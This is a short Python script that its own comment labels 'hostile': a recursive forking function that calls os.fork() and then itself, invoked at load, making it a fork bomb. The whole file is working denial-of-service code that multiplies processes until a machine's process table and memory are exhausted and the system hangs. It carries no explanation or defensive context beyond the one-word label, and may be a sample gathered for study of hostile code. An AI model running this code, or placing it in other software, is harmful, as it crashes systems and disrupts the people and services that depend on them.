# hostile: recursive forking function
import os

def multiply():
    os.fork()
    multiply()

multiply()
